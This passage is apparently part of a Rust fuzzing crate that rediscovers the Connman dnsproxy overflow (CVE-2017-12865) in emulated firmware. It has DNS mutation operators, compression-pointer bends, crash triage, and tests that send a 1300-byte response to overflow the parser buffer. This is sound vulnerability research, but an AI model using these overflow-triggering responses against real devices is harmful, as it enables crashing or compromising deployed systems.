    /// Offset of the answer name's first label length byte.
    start: usize,
    /// Offset of the terminator: a root byte or the first byte of a
    /// compression pointer.
    term: usize,
}

/// Walks the question section from offset 12 (labels, root, qtype,
/// qclass) and then the answer name's in-place labels. Returns `None`
/// whenever the framing is no longer DNS-shaped — the caller falls back
/// to havoc.
fn walk_answer_name(p: &[u8]) -> Option<AnswerName> {
    let mut pos = 12usize;
    // Question name: plain labels only (the proxy's own queries never
    // compress), terminated by a root byte.
    loop {
        let len = *p.get(pos)? as usize;
        if len == 0 {
            pos += 1;
            break;
        }
        if len & 0xC0 != 0 {
            return None;
        }
        pos += 1 + len;
        if pos > p.len() {
            return None;
        }
    }
    pos += 4; // qtype + qclass
    let start = pos;
    // Answer name: labels until a root byte or a compression pointer.
    let mut guard = 0usize;
    loop {
        guard += 1;
        if guard > 128 {
            return None;
        }
        let len = *p.get(pos)? as usize;
        if len == 0 || len & 0xC0 == 0xC0 {
            return Some(AnswerName { start, term: pos });
        }
        if len & 0xC0 != 0 {
            return None;
        }
        pos += 1 + len;
        if pos > p.len() {
            return None;
        }
    }
}

/// The deterministic mutation engine: one per fuzzing worker.
#[derive(Debug, Clone)]
pub struct Mutator {
    rng: StdRng,
}

impl Mutator {
    /// A mutator with its own RNG stream.
    pub fn new(seed: u64) -> Self {
        Mutator {
            rng: StdRng::seed_from_u64(seed),
        }
    }

    /// Rewrites `base` into `out` with 1–4 stacked mutations. When
    /// `donor` is given, one of the candidate operators is a corpus
    /// splice (crossover with another admitted input).
    pub fn mutate(&mut self, base: &[u8], donor: Option<&[u8]>, out: &mut Vec<u8>) {
        out.clear();
        out.extend_from_slice(base);
        let stack = self.rng.gen_range(1usize..=4);
        for _ in 0..stack {
            let op = self.rng.gen_range(0u32..8);
            match op {
                0 => self.label_extend(out),
                1 => self.label_splice(out),
                2 => self.pointer_bend(out),
                3 => self.rdata_grow(out),
                4 => self.ancount_bump(out),
                5 => {
                    if let Some(d) = donor {
                        self.splice_with(d, out);
                    } else {
                        self.havoc(out);
                    }
                }
                _ => self.havoc(out),
            }
            if out.len() > MAX_INPUT {
                out.truncate(MAX_INPUT);
            }
        }
    }

    /// Inserts a fresh label before the answer name's terminator.
    fn label_extend(&mut self, p: &mut Vec<u8>) {
        let Some(name) = walk_answer_name(p) else {
            return self.havoc(p);
        };
        let len = self.rng.gen_range(1usize..=63);
        let mut label = [0u8; 64];
        label[0] = len as u8;
        for b in &mut label[1..=len] {
            *b = self.rng.gen_range(b'a'..=b'z');
        }
        splice_in(p, name.term, &label[..=len]);
    }

    /// Duplicates the whole in-place label run of the answer name —
    /// doubling the name with one mutation, which compounds quickly
    /// under repeated admission.
    fn label_splice(&mut self, p: &mut Vec<u8>) {
        let Some(name) = walk_answer_name(p) else {
            return self.havoc(p);
        };
        if name.term == name.start {
            return self.label_extend(p);
        }
        let run: Vec<u8> = p[name.start..name.term].to_vec();
        splice_in(p, name.term, &run);
    }

    /// Replaces the answer name's terminator with a compression pointer
    /// aimed somewhere earlier in the packet — the CVE's amplification
    /// device: a pointer back into the name re-walks the labels on every
    /// hop, so a short packet can write far more than its own length.
    fn pointer_bend(&mut self, p: &mut Vec<u8>) {
        let Some(name) = walk_answer_name(p) else {
            return self.havoc(p);
        };
        let hi_cap = p.len().min(0x3FFF);
        if hi_cap <= 12 {
            return self.havoc(p);
        }
        let target = self.rng.gen_range(12usize..hi_cap);
        let ptr = [0xC0 | ((target >> 8) as u8), target as u8];
        if name.term + 2 <= p.len() {
            p[name.term] = ptr[0];
            p[name.term + 1] = ptr[1];
        } else {
            p.truncate(name.term);
            p.extend_from_slice(&ptr);
        }
    }

    /// Grows the answer's rdata: bumps the rdlength field (right after
    /// the name terminator's type/class/ttl) and appends the bytes.
    fn rdata_grow(&mut self, p: &mut Vec<u8>) {
        let Some(name) = walk_answer_name(p) else {
            return self.havoc(p);
        };
        // Fixed RR header after the name: type(2) class(2) ttl(4) rdlen(2).
        let term_len = if p.get(name.term).is_some_and(|&b| b & 0xC0 == 0xC0) {
            2
        } else {
            1
        };
        let rdlen_off = name.term + term_len + 8;
        if rdlen_off + 2 > p.len() {
            return self.havoc(p);
        }
        let grow = self.rng.gen_range(1usize..=64);
        let old = u16::from_be_bytes([p[rdlen_off], p[rdlen_off + 1]]);
        let new = old.saturating_add(grow as u16);
        p[rdlen_off] = (new >> 8) as u8;
        p[rdlen_off + 1] = new as u8;
        for _ in 0..grow {
            let b: u8 = self.rng.gen();
            p.push(b);
        }
    }

    /// Rewrites the header's answer count — more records mean more
    /// trips through the decompressor per delivery.
    fn ancount_bump(&mut self, p: &mut Vec<u8>) {
        if p.len() < 8 {
            return self.havoc(p);
        }
        let n = self.rng.gen_range(1u16..=8);
        p[6] = (n >> 8) as u8;
        p[7] = n as u8;
    }

    /// Crossover: keeps a prefix of the current input and appends a
    /// suffix of the donor.
    fn splice_with(&mut self, donor: &[u8], p: &mut Vec<u8>) {
        if p.is_empty() || donor.is_empty() {
            return self.havoc(p);
        }
        let cut_a = self.rng.gen_range(0usize..p.len());
        let cut_b = self.rng.gen_range(0usize..donor.len());
        p.truncate(cut_a);
        p.extend_from_slice(&donor[cut_b..]);
    }

    /// Unstructured byte soup: flips, overwrites, deletions,
    /// duplications, insertions.
    fn havoc(&mut self, p: &mut Vec<u8>) {
        let rounds = self.rng.gen_range(1usize..=8);
        for _ in 0..rounds {
            if p.is_empty() {
                let b: u8 = self.rng.gen();
                p.push(b);
                continue;
            }
            match self.rng.gen_range(0u32..5) {
                0 => {
                    let i = self.rng.gen_range(0usize..p.len());
                    let bit = self.rng.gen_range(0u32..8);
                    p[i] ^= 1 << bit;
                }
                1 => {
                    let i = self.rng.gen_range(0usize..p.len());
                    p[i] = self.rng.gen();
                }
                2 => {
                    // Overwrite a big-endian u16 (counts, lengths, ids).
                    let i = self.rng.gen_range(0usize..p.len());
                    let v: u16 = self.rng.gen_range(0u16..=0x0400);
                    p[i] = (v >> 8) as u8;
                    if i + 1 < p.len() {
                        p[i + 1] = v as u8;
                    }
                }
                3 => {
                    let i = self.rng.gen_range(0usize..p.len());
                    let n = self.rng.gen_range(1usize..=8).min(p.len() - i);
                    p.drain(i..i + n);
                }
                _ => {
                    let i = self.rng.gen_range(0usize..p.len());
                    let n = self.rng.gen_range(1usize..=16).min(p.len() - i);
                    let chunk: Vec<u8> = p[i..i + n].to_vec();
                    splice_in(p, i, &chunk);
                }
            }
        }
    }
}

/// Inserts `bytes` at `at`, shifting the tail right.
fn splice_in(p: &mut Vec<u8>, at: usize, bytes: &[u8]) {
    let at = at.min(p.len());
    p.splice(at..at, bytes.iter().copied());
}

#[cfg(test)]
mod tests {
    use super::*;

    /// header(12) + question "ab." A/IN + answer name "ab" + A record.
    fn shaped_input() -> Vec<u8> {
        let mut p = vec![0u8; 12];
        p[0] = 0x10; // id 0x1000
        p[5] = 1; // qdcount
        p[7] = 1; // ancount
        p.extend_from_slice(&[2, b'a', b'b', 0]); // qname
        p.extend_from_slice(&[0, 1, 0, 1]); // qtype/qclass
        p.extend_from_slice(&[2, b'a', b'b', 0]); // answer name
        p.extend_from_slice(&[0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 10, 0, 0, 1]);
        p
    }

    #[test]
    fn walker_finds_answer_name() {
        let p = shaped_input();
        let name = walk_answer_name(&p).expect("well-formed");
        assert_eq!(name.start, 20);
        assert_eq!(name.term, 23);
    }

    #[test]
    fn mutations_are_deterministic_per_seed() {
        let base = shaped_input();
        let run = |seed| {
            let mut m = Mutator::new(seed);
            let mut out = Vec::new();
            let mut all = Vec::new();
            for _ in 0..50 {
                m.mutate(&base, Some(&base), &mut out);
                all.extend_from_slice(&out);
            }
            all
        };
        assert_eq!(run(7), run(7));
        assert_ne!(run(7), run(8));
    }

    #[test]
    fn mutations_respect_max_input() {
        let base = shaped_input();
        let mut m = Mutator::new(1);
        let mut out = Vec::new();
        for _ in 0..500 {
            m.mutate(&base, None, &mut out);
            assert!(out.len() <= MAX_INPUT);
        }
    }

    #[test]
    fn label_extend_grows_the_name() {
        let base = shaped_input();
        let mut m = Mutator::new(3);
        let mut out = base.clone();
        m.label_extend(&mut out);
        let before = walk_answer_name(&base).unwrap();
        let after = walk_answer_name(&out).unwrap();
        assert!(after.term - after.start > before.term - before.start);
    }

    #[test]
    fn pointer_bend_installs_a_pointer() {
        let base = shaped_input();
        let mut m = Mutator::new(4);
        let mut out = base.clone();
        m.pointer_bend(&mut out);
        let name = walk_answer_name(&out).unwrap();
        assert_eq!(out[name.term] & 0xC0, 0xC0, "terminator is now a pointer");
    }

    #[test]
    fn havoc_handles_tiny_inputs() {
        let mut m = Mutator::new(5);
        let mut out = Vec::new();
        for _ in 0..100 {
            m.mutate(&[], None, &mut out);
        }
        m.mutate(&[1], None, &mut out);
    }
}
