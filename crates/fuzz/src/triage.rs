//! Crash triage: stable deduplication keys and input minimization.

use cml_vm::Fault;

/// Rounds an overflow extent up to a power of two, so "overflowed by
/// 277 bytes" and "overflowed by 312 bytes" triage to the same site
/// while an order-of-magnitude difference does not.
fn extent_bucket(extent: u32) -> u32 {
    extent.max(1).next_power_of_two()
}

/// A stable, human-readable deduplication key for a fault.
///
/// Sanitizer findings key on the fault *site* — buffer address, pc of
/// the offending store, and the extent's power-of-two bucket — so a
/// thousand inputs that all overflow the same `parse_response` buffer
/// collapse into one crash. Other faults key on their kind and pc.
pub fn crash_key(fault: &Fault) -> String {
    match fault {
        Fault::RedzoneViolation {
            buffer, pc, extent, ..
        } => format!(
            "redzone-{buffer:08x}-pc{pc:08x}-x{:x}",
            extent_bucket(*extent)
        ),
        Fault::UnmappedRead { pc, .. } => format!("unmapped-read-pc{pc:08x}"),
        Fault::UnmappedWrite { pc, .. } => format!("unmapped-write-pc{pc:08x}"),
        Fault::UnmappedFetch { pc } => format!("unmapped-fetch-pc{pc:08x}"),
        Fault::ProtectedRead { pc, .. } => format!("protected-read-pc{pc:08x}"),
        Fault::ProtectedWrite { pc, .. } => format!("protected-write-pc{pc:08x}"),
        Fault::NxViolation { pc, .. } => format!("nx-pc{pc:08x}"),
        Fault::IllegalInstruction { pc, .. } => format!("illegal-insn-pc{pc:08x}"),
        Fault::UnalignedFetch { pc } => format!("unaligned-fetch-pc{pc:08x}"),
        Fault::UnknownSyscall { pc, .. } => format!("unknown-syscall-pc{pc:08x}"),
        Fault::CfiViolation { pc, .. } => format!("cfi-pc{pc:08x}"),
        Fault::CanarySmashed { .. } => "canary-smashed".to_string(),
        Fault::StepLimit { .. } => "step-limit".to_string(),
        other => format!("fault-pc{:08x}", other.pc().unwrap_or(0)),
    }
}

/// Deterministic ddmin-style minimization: repeatedly tries dropping
/// chunks (halves, then quarters, down to single bytes) and keeps any
/// reduction that still reproduces `same_crash`. `same_crash` is called
/// once per candidate, so the caller can count those executions against
/// its budget; minimization stops early when `same_crash` starts
/// returning `None` budget-out signals.
pub fn minimize<F>(input: &[u8], mut same_crash: F) -> Vec<u8>
where
    F: FnMut(&[u8]) -> Option<bool>,
{
    let mut best = input.to_vec();
    let mut chunk = (best.len() / 2).max(1);
    while chunk >= 1 {
        let mut offset = 0usize;
        let mut reduced = false;
        while offset < best.len() && best.len() > 1 {
            let end = (offset + chunk).min(best.len());
            let mut candidate = Vec::with_capacity(best.len());
            candidate.extend_from_slice(&best[..offset]);
            candidate.extend_from_slice(&best[end..]);
            if candidate.is_empty() {
                offset = end;
                continue;
            }
            match same_crash(&candidate) {
                Some(true) => {
                    best = candidate;
                    reduced = true;
                    // Re-test from the same offset against the shorter input.
                }
                Some(false) => offset = end,
                None => return best, // budget exhausted
            }
        }
        if chunk == 1 && !reduced {
            break;
        }
        chunk /= 2;
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn redzone_keys_bucket_extent() {
        let a = Fault::RedzoneViolation {
            buffer: 0x8100,
            capacity: 1024,
            first: 0x8500,
            extent: 277,
            pc: 0x1234,
        };
        let b = Fault::RedzoneViolation {
            buffer: 0x8100,
            capacity: 1024,
            first: 0x8520,
            extent: 300,
            pc: 0x1234,
        };
        let c = Fault::RedzoneViolation {
            buffer: 0x8100,
            capacity: 1024,
            first: 0x8500,
            extent: 3000,
            pc: 0x1234,
        };
        assert_eq!(crash_key(&a), crash_key(&b), "same pow2 bucket");
        assert_ne!(crash_key(&a), crash_key(&c), "different magnitude");
    }

    #[test]
    fn distinct_sites_get_distinct_keys() {
        let w = Fault::UnmappedWrite { addr: 0x10, pc: 5 };
        let r = Fault::UnmappedRead { addr: 0x10, pc: 5 };
        assert_ne!(crash_key(&w), crash_key(&r));
    }

    #[test]
    fn minimize_strips_irrelevant_bytes() {
        // Crash iff the input still contains byte 0x2A.
        let input: Vec<u8> = (0..64u8).collect();
        let out = minimize(&input, |c| Some(c.contains(&0x2A)));
        assert_eq!(out, vec![0x2A]);
    }

    #[test]
    fn minimize_respects_budget() {
        let input = vec![7u8; 32];
        let mut calls = 0;
        let out = minimize(&input, |_| {
            calls += 1;
            if calls > 3 {
                None
            } else {
                Some(false)
            }
        });
        assert_eq!(out, input, "no successful reduction before budget-out");
    }
}
