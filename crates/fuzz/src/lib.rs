//! # cml-fuzz — coverage-guided rediscovery of CVE-2017-12865
//!
//! The rest of the workspace *exploits* the Connman `dnsproxy` overflow
//! on the assumption that the attacker already knows it is there. This
//! crate closes the loop from the other side: an AFL-style fuzzer that
//! finds the bug from scratch, with nothing but benign DNS responses as
//! seeds and the VM's sanitizer as the oracle.
//!
//! The moving parts, bottom-up:
//!
//! - **Coverage** rides the VM's block-dispatch path
//!   ([`cml_vm::CoverageMap`]) plus virtual edges the instrumented
//!   parser emits via `Machine::cov_note` — bucketed name-length growth
//!   is the gradient that leads mutation toward (and past) the
//!   1024-byte `parse_response` buffer.
//! - **[`mutate`]** holds structure-aware DNS operators: label splice
//!   and extend, compression-pointer bends (the CVE's amplification
//!   device), rdata growth, corpus splicing, and plain havoc.
//! - **[`corpus`]** admits an input only when its execution lights an
//!   AFL count-class no earlier input did.
//! - **[`harness`]** is the fork server: one boot per worker via
//!   [`cml_firmware::Firmware::forge`], a snapshot restore per input.
//! - **[`triage`]** deduplicates crashes by fault site and minimizes
//!   reproducers with a budget-bounded ddmin.
//! - **[`driver`]** shards independent per-worker campaigns over
//!   [`cml_core::Runner`] and merges them deterministically: the same
//!   `--seed` yields a byte-identical report, including admission
//!   order.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod corpus;
pub mod driver;
pub mod harness;
pub mod mutate;
pub mod triage;

pub use corpus::{Corpus, CoverageAccum};
pub use driver::{fuzz, CrashRecord, FuzzConfig, FuzzReport, WorkerStats};
pub use harness::{ExecOutcome, Harness};
pub use mutate::{Mutator, MAX_INPUT};
pub use triage::{crash_key, minimize};
