//! Coverage-novelty admission and the corpus itself.

use cml_vm::COV_MAP_SIZE;
use rand::rngs::StdRng;
use rand::Rng;

/// Buckets a raw hit count into the AFL count classes — one bit per
/// class, so "this edge fired twice" and "this edge fired a hundred
/// times" are distinct novelty signals while byte-level count noise is
/// not.
fn class_bit(count: u8) -> u8 {
    match count {
        0 => 0,
        1 => 1 << 0,
        2 => 1 << 1,
        3 => 1 << 2,
        4..=7 => 1 << 3,
        8..=15 => 1 << 4,
        16..=31 => 1 << 5,
        32..=127 => 1 << 6,
        _ => 1 << 7,
    }
}

/// The campaign-global "virgin map": which count classes each edge has
/// ever shown. An input is admitted to the corpus iff it lights a class
/// bit no earlier input did.
#[derive(Debug, Clone)]
pub struct CoverageAccum {
    virgin: Vec<u8>,
}

impl Default for CoverageAccum {
    fn default() -> Self {
        CoverageAccum::new()
    }
}

impl CoverageAccum {
    /// An accumulator that has seen nothing.
    pub fn new() -> Self {
        CoverageAccum {
            virgin: vec![0u8; COV_MAP_SIZE],
        }
    }

    /// Folds one execution's coverage map in. Returns `true` when the
    /// run showed any new edge/count-class — the admission signal.
    pub fn note_new(&mut self, map: &[u8]) -> bool {
        // The map is sparse (a few hundred lit edges out of 8 Ki), so
        // the scan skips zero bytes a word at a time: this runs once
        // per fuzz exec and the byte-wise version was ~a third of the
        // whole coverage overhead.
        let mut novel = false;
        let words = self.virgin.len().min(map.len()) / 8;
        for (seen8, map8) in self.virgin[..words * 8]
            .chunks_exact_mut(8)
            .zip(map[..words * 8].chunks_exact(8))
        {
            if u64::from_ne_bytes(map8.try_into().expect("exact chunk")) == 0 {
                continue;
            }
            for (seen, &count) in seen8.iter_mut().zip(map8) {
                let bit = class_bit(count);
                if bit & !*seen != 0 {
                    novel = true;
                    *seen |= bit;
                }
            }
        }
        for (seen, &count) in self.virgin[words * 8..].iter_mut().zip(&map[words * 8..]) {
            let bit = class_bit(count);
            if bit & !*seen != 0 {
                novel = true;
                *seen |= bit;
            }
        }
        novel
    }

    /// Distinct edges observed so far across the whole campaign.
    pub fn edges_seen(&self) -> usize {
        self.virgin.iter().filter(|&&b| b != 0).count()
    }
}

/// The admitted inputs, in admission order (which is deterministic per
/// seed — the driver's reproducibility contract depends on it).
#[derive(Debug, Clone, Default)]
pub struct Corpus {
    entries: Vec<Vec<u8>>,
}

impl Corpus {
    /// An empty corpus.
    pub fn new() -> Self {
        Corpus::default()
    }

    /// Admits an input (unconditionally — the caller owns the novelty
    /// decision via [`CoverageAccum::note_new`]).
    pub fn admit(&mut self, input: &[u8]) {
        self.entries.push(input.to_vec());
    }

    /// Number of admitted inputs.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether nothing has been admitted.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// The entries in admission order.
    pub fn entries(&self) -> &[Vec<u8>] {
        &self.entries
    }

    /// Picks a base input uniformly.
    pub fn pick<'a>(&'a self, rng: &mut StdRng) -> &'a [u8] {
        &self.entries[rng.gen_range(0usize..self.entries.len())]
    }

    /// Picks a splice donor distinct from `avoid` when possible.
    pub fn pick_donor<'a>(&'a self, rng: &mut StdRng, avoid: &[u8]) -> Option<&'a [u8]> {
        if self.entries.len() < 2 {
            return None;
        }
        let idx = rng.gen_range(0usize..self.entries.len());
        let e = &self.entries[idx];
        if e.as_slice() == avoid {
            // One deterministic retry; identical donors are harmless.
            let idx2 = (idx + 1) % self.entries.len();
            return Some(&self.entries[idx2]);
        }
        Some(e)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn novelty_fires_once_per_class() {
        let mut acc = CoverageAccum::new();
        let mut map = vec![0u8; COV_MAP_SIZE];
        map[5] = 1;
        assert!(acc.note_new(&map), "first sighting is novel");
        assert!(!acc.note_new(&map), "same map again is not");
        map[5] = 2;
        assert!(acc.note_new(&map), "new count class is novel");
        map[5] = 3;
        assert!(acc.note_new(&map));
        map[5] = 6;
        assert!(acc.note_new(&map), "4..=7 class");
        map[5] = 7;
        assert!(!acc.note_new(&map), "same class");
        assert_eq!(acc.edges_seen(), 1);
    }

    #[test]
    fn corpus_preserves_admission_order() {
        let mut c = Corpus::new();
        c.admit(b"one");
        c.admit(b"two");
        assert_eq!(c.entries()[0], b"one");
        assert_eq!(c.entries()[1], b"two");
        let mut rng = StdRng::seed_from_u64(1);
        let picked = c.pick(&mut rng);
        assert!(picked == b"one" || picked == b"two");
        assert!(c.pick_donor(&mut rng, b"one").is_some());
        let mut solo = Corpus::new();
        solo.admit(b"x");
        assert!(solo.pick_donor(&mut rng, b"x").is_none());
    }
}
