//! The fork-server execution harness.
//!
//! Boots one firmware variant via [`Firmware::forge`], then serves
//! every fuzz input from a snapshot restore: fork at the forge's base
//! seed is a pure dirty-page rewind, so the per-input cost is the parse
//! itself, not a boot. A `--no-fork` style reboot mode (full
//! [`Firmware::boot`] per input) exists solely so the
//! `fork_vs_reboot_fuzz` ablation can measure what the snapshot path
//! saves.

use cml_connman::{ProxyOutcome, Resolution};
use cml_dns::forge::ResponseForge;
use cml_dns::{Message, Name, RecordType};
use cml_firmware::{Arch, BootForge, Daemon, Firmware, FirmwareKind, Protections};

use crate::corpus::CoverageAccum;
use crate::triage::crash_key;

/// What one execution of the target produced.
#[derive(Debug, Clone)]
pub struct ExecOutcome {
    /// Coarse outcome class (stable labels, used in stats).
    pub tag: &'static str,
    /// Triage key when the daemon crashed (or the oracle was escaped).
    pub crash_key: Option<String>,
    /// Human-readable fault description for crash reports.
    pub fault: Option<String>,
    /// Whether this execution lit coverage no earlier one had.
    pub novel: bool,
}

/// The per-worker fork server: one booted forge plus the canonical
/// query every input answers.
#[derive(Debug)]
pub struct Harness {
    firmware: Firmware,
    forge: BootForge,
    boot_seed: u64,
    qname: Name,
    coverage: bool,
    reboot_per_exec: bool,
    /// Scratch daemon for reboot mode (kept so fork mode's forge stays
    /// untouched by ablation runs).
    reboot_daemon: Option<Daemon>,
}

impl Harness {
    /// Boots `kind`/`arch` once and snapshots it.
    ///
    /// `coverage` arms the VM edge map per exec; `reboot_per_exec`
    /// replaces snapshot restores with full boots (ablation only).
    pub fn new(
        kind: FirmwareKind,
        arch: Arch,
        boot_seed: u64,
        coverage: bool,
        reboot_per_exec: bool,
    ) -> Self {
        let firmware = Firmware::build(kind, arch);
        let forge = firmware.forge(Protections::none(), boot_seed);
        Harness {
            firmware,
            forge,
            boot_seed,
            qname: Name::parse("iot.example.com").expect("static name"),
            coverage,
            reboot_per_exec,
            reboot_daemon: None,
        }
    }

    /// The benign seed corpus: well-formed responses answering the
    /// canonical query, in growing shapes. Deterministic — no RNG.
    pub fn seed_inputs(&mut self) -> Vec<Vec<u8>> {
        let query = self.fresh_query();
        vec![
            ResponseForge::answering(&query)
                .with_payload_labels(vec![b"iot".to_vec(), b"example".to_vec(), b"com".to_vec()])
                .expect("labels fit")
                .build()
                .expect("benign response encodes"),
            ResponseForge::answering(&query)
                .with_payload_labels(vec![vec![b'a'; 20], vec![b'b'; 20]])
                .expect("labels fit")
                .build()
                .expect("benign response encodes"),
            ResponseForge::answering(&query)
                .with_chunked_payload(&[b'c'; 100])
                .expect("labels fit")
                .build()
                .expect("benign response encodes"),
        ]
    }

    /// Forks (or reboots), re-issues the canonical query, and delivers
    /// `input` as the upstream response under the sanitizer oracle.
    pub fn exec(&mut self, input: &[u8], accum: &mut CoverageAccum) -> ExecOutcome {
        let coverage = self.coverage;
        let boot_seed = self.boot_seed;
        let daemon = if self.reboot_per_exec {
            self.reboot_daemon = Some(self.firmware.boot(Protections::none(), boot_seed));
            self.reboot_daemon.as_mut().expect("just set")
        } else {
            self.forge.fork(boot_seed)
        };
        daemon.set_sanitizer(true);
        daemon.machine_mut().set_coverage_enabled(coverage);
        daemon.machine_mut().coverage_reset();
        // Re-issue the pending query; the snapshot rewinds the id
        // counter, so every fork awaits the same transaction id and the
        // seed corpus stays valid across the whole campaign.
        let _query = daemon.resolve(&self.qname, RecordType::A);
        let outcome = daemon.deliver_response(input);
        let novel = match daemon.machine().coverage() {
            Some(map) => accum.note_new(map.bytes()),
            None => false,
        };
        let (tag, crash, fault): (&'static str, Option<String>, Option<String>) = match &outcome {
            ProxyOutcome::Rejected(_) => ("rejected", None, None),
            ProxyOutcome::ParseFailed { .. } => ("parse-failed", None, None),
            ProxyOutcome::Answered { .. } => ("answered", None, None),
            ProxyOutcome::Crashed(report) => (
                "crashed",
                Some(crash_key(&report.fault)),
                Some(report.fault.to_string()),
            ),
            // With the sanitizer armed these should be unreachable; if
            // an input ever escapes the oracle, surface it loudly as its
            // own crash bucket instead of miscounting it as benign.
            ProxyOutcome::Compromised(_) => (
                "compromised",
                Some("oracle-escape-compromised".to_string()),
                Some(outcome.to_string()),
            ),
            ProxyOutcome::HijackedExit { .. } => (
                "hijacked-exit",
                Some("oracle-escape-hijack".to_string()),
                Some(outcome.to_string()),
            ),
            ProxyOutcome::DaemonDown => ("daemon-down", None, None),
            // `ProxyOutcome` is non_exhaustive; treat unknown future
            // outcomes as benign rather than fabricating crash keys.
            _ => ("other", None, None),
        };
        ExecOutcome {
            tag,
            crash_key: crash,
            fault,
            novel,
        }
    }

    /// Re-runs `input` and reports whether it crashes with `key` —
    /// the minimization predicate. Coverage novelty is deliberately not
    /// recorded (a throwaway accumulator), so minimization cannot
    /// perturb corpus admission.
    pub fn reproduces(&mut self, input: &[u8], key: &str) -> bool {
        let mut scratch = CoverageAccum::new();
        let out = self.exec(input, &mut scratch);
        out.crash_key.as_deref() == Some(key)
    }

    /// The wire bytes of the canonical query a fresh fork issues.
    fn fresh_query(&mut self) -> Message {
        let daemon = self.forge.fork(self.boot_seed);
        match daemon.resolve(&self.qname, RecordType::A) {
            Resolution::Query(bytes) => Message::decode(&bytes).expect("own query decodes"),
            Resolution::Cached(_) => unreachable!("fresh fork has a cold cache"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seeds_are_benign_on_the_vulnerable_daemon() {
        let mut h = Harness::new(FirmwareKind::OpenElec, Arch::X86, 0xF022, true, false);
        let mut accum = CoverageAccum::new();
        for seed in h.seed_inputs() {
            let out = h.exec(&seed, &mut accum);
            assert_eq!(out.tag, "answered", "seed corpus must be benign");
            assert!(out.crash_key.is_none());
        }
        assert!(accum.edges_seen() > 0, "benign parses still light edges");
    }

    #[test]
    fn oversized_payload_trips_the_oracle_on_fork_and_reboot() {
        for reboot in [false, true] {
            let mut h = Harness::new(FirmwareKind::OpenElec, Arch::X86, 0xF022, true, reboot);
            let query = h.fresh_query();
            let evil = ResponseForge::answering(&query)
                .with_chunked_payload(&[0x41; 1300])
                .unwrap()
                .build()
                .unwrap();
            let mut accum = CoverageAccum::new();
            let out = h.exec(&evil, &mut accum);
            assert_eq!(out.tag, "crashed");
            let key = out.crash_key.expect("sanitizer key");
            assert!(key.starts_with("redzone-"), "{key}");
            assert!(h.reproduces(&evil, &key));
        }
    }

    #[test]
    fn patched_daemon_never_crashes_on_the_same_payload() {
        let mut h = Harness::new(FirmwareKind::Patched, Arch::X86, 0xF022, true, false);
        let query = h.fresh_query();
        let evil = ResponseForge::answering(&query)
            .with_chunked_payload(&[0x41; 1300])
            .unwrap()
            .build()
            .unwrap();
        let mut accum = CoverageAccum::new();
        let out = h.exec(&evil, &mut accum);
        assert_eq!(out.tag, "parse-failed", "1.35 bounds check holds");
    }
}
