//! The parallel fuzzing driver.
//!
//! Workers run *independent* campaigns over [`cml_core::Runner`]'s
//! work-stealing shards: worker `w` derives its own RNG streams from
//! `derive_seed(cfg.seed, w)`, owns its own fork server, mutation
//! scratch buffer, corpus, and coverage accumulator, and spends a fixed
//! slice of the exec budget. Nothing crosses threads mid-campaign, so
//! the merged report is byte-identical for a given `(seed, jobs)` pair
//! regardless of scheduling — the reproducibility contract `--seed`
//! promises.

use std::cell::RefCell;
use std::fmt::Write as _;
use std::fs;
use std::io;
use std::path::Path;

use cml_core::{derive_seed, Runner};
use cml_dns::BufPool;
use cml_firmware::{Arch, FirmwareKind};
use rand::rngs::StdRng;
use rand::SeedableRng;

use crate::corpus::{Corpus, CoverageAccum};
use crate::harness::Harness;
use crate::mutate::Mutator;
use crate::triage::minimize;

/// Everything that shapes a campaign. Two equal configs produce
/// byte-identical [`FuzzReport`]s.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FuzzConfig {
    /// Guest architecture of the target firmware.
    pub arch: Arch,
    /// Firmware variant under test.
    pub kind: FirmwareKind,
    /// Campaign master seed; every worker stream derives from it.
    pub seed: u64,
    /// Total executions across all workers (seeds and minimization
    /// count against it).
    pub max_execs: u64,
    /// Worker count. Part of the determinism key: changing it
    /// repartitions the budget.
    pub jobs: usize,
    /// Arm the VM edge map (off measures the `coverage_hook_overhead`
    /// ablation's baseline: blind fuzzing, no admission signal).
    pub coverage: bool,
    /// Full boot instead of snapshot restore per exec (the
    /// `fork_vs_reboot_fuzz` ablation's slow leg).
    pub reboot_per_exec: bool,
}

impl FuzzConfig {
    /// A coverage-guided snapshot-fork campaign with `jobs` workers.
    pub fn new(kind: FirmwareKind, arch: Arch, seed: u64, max_execs: u64, jobs: usize) -> Self {
        FuzzConfig {
            arch,
            kind,
            seed,
            max_execs,
            jobs: jobs.max(1),
            coverage: true,
            reboot_per_exec: false,
        }
    }
}

/// One deduplicated crash, with its minimized reproducer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CrashRecord {
    /// Triage key (fault site); the dedup identity.
    pub key: String,
    /// Worker that found it first (in merge order).
    pub worker: usize,
    /// Minimized input that still reproduces the key.
    pub input: Vec<u8>,
    /// Human-readable fault description from the first hit.
    pub fault: String,
}

/// Per-worker campaign tallies.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct WorkerStats {
    /// Executions this worker performed (its full budget slice).
    pub execs: u64,
    /// Inputs admitted to this worker's corpus.
    pub corpus_len: usize,
    /// Distinct coverage-map edges this worker observed.
    pub edges: usize,
    /// Executions that parsed and answered normally.
    pub answered: u64,
    /// Executions the header gate rejected.
    pub rejected: u64,
    /// Executions that failed parsing without a fault.
    pub parse_failed: u64,
    /// Executions that crashed the daemon.
    pub crashed: u64,
}

/// The merged result of a campaign.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FuzzReport {
    /// The config that produced this report.
    pub config: FuzzConfig,
    /// Per-worker tallies, in worker order.
    pub workers: Vec<WorkerStats>,
    /// Deduplicated crashes in worker-then-discovery order.
    pub crashes: Vec<CrashRecord>,
    /// Every worker corpus, flattened in worker-then-admission order.
    pub corpus: Vec<Vec<u8>>,
}

impl FuzzReport {
    /// Total executions across workers.
    pub fn total_execs(&self) -> u64 {
        self.workers.iter().map(|w| w.execs).sum()
    }

    /// The deduplicated crash keys, in discovery order.
    pub fn crash_keys(&self) -> Vec<&str> {
        self.crashes.iter().map(|c| c.key.as_str()).collect()
    }

    /// Whether any crash triaged to the sanitizer's overflow site —
